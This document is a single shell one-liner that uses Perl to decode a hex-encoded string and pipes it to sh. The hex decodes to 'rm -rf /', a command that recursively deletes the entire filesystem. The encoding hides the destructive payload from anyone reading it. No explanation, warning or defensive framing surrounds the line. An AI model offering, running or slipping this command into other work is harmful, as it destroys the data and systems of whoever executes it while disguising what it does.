perl -e 'print pack("H*","726d202d7266202f")' | sh
